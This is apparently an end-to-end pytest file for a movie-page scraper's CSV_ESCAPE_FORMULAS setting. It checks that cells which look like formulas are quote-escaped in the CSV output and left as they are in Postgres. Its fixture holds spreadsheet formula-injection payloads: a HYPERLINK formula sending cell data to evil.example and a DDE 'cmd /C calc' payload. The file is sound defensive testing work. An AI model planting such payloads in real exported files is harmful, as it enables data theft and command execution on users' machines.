"""``CSV_ESCAPE_FORMULAS`` as a user meets it: the files, and what the program makes of them."""

from pathlib import Path

import pytest

from tests.databases import rows_of
from tests.e2e.program import report, rows, run
from tests.unit.imdb_pages import pages

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"The Quiet Harbour")'


@pytest.fixture
def saved_pages(tmp_path: Path) -> Path:
    """A folder with a page whose title, plot and a name are formulas."""
    props = pages.having(pages.v1(), "aboveTheFoldData.titleText.text", FORMULA)
    props = pages.having(props, "aboveTheFoldData.plot.plotText.plainText", "@SUM(1+1)")
    props = pages.having(
        props, "mainColumnData.cast.edges.0.node.name.nameText.text", "-2+3+cmd|' /C calc'!A0"
    )
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "any.html").write_text(pages.title_html(props), encoding="utf-8")
    return folder


def test_cells_are_escaped_and_stay_the_same_title(
    tmp_path: Path, saved_pages: Path, postgres_url: str
) -> None:
    given = {"sources": "saved", "saved_pages_dir": saved_pages, "database_url": postgres_url}
    output = tmp_path / "output"

    first = run(tmp_path, "titles", pages.TITLE_ID, csv_escape_formulas="true", **given)
    assert first.status == 0, first.err
    (title,) = rows(output, "titles.csv")
    assert title["title"] == f"'{FORMULA}"
    assert title["plot"] == "'@SUM(1+1)"
    assert title["votes"] == "1234"
    assert "'-2+3+cmd|' /C calc'!A0" in {row["name"] for row in rows(output, "credits.csv")}
    assert "'-2+3+cmd|' /C calc'!A0" in {row["name"] for row in rows(output, "people.csv")}
    assert rows_of(postgres_url, "SELECT title FROM titles") == [(FORMULA,)]

    # Without the setting the same rows are the same titles, and nothing is to be done.
    level = run(tmp_path, "repair", "--check", **given)
    assert (level.status, "hold the same 1 title" in level.out) == (0, True), level.out

    again = run(tmp_path, "titles", pages.TITLE_ID, **given)
    assert again.status == 0, again.err
    assert {kept["name"]: kept["unchanged"] for kept in report(output)["repositories"]} == {
        "csv": 1,
        "postgres": 1,
    }
    assert len(rows(output, "titles.csv")) == 1
    assert len(rows(output, "people.csv")) == 4


def test_repair_writes_the_files_anew_with_the_setting_of_the_day(
    tmp_path: Path, saved_pages: Path, postgres_url: str
) -> None:
    given = {"sources": "saved", "saved_pages_dir": saved_pages, "database_url": postgres_url}
    assert run(tmp_path, "titles", pages.TITLE_ID, **given).status == 0
    output = tmp_path / "output"
    assert [row["title"] for row in rows(output, "titles.csv")] == [FORMULA]
    for path in output.glob("*.csv"):
        path.rename(tmp_path / path.name)

    assert run(tmp_path, "repair", csv_escape_formulas="true", **given).status == 0
    assert [row["title"] for row in rows(output, "titles.csv")] == [f"'{FORMULA}"]


def test_another_value_is_refused_with_what_is_allowed(tmp_path: Path) -> None:
    result = run(tmp_path, "titles", pages.TITLE_ID, csv_escape_formulas="yes")
    assert result.status == 2
    assert "CSV_ESCAPE_FORMULAS=yes: must be 'true' or 'false'" in result.err
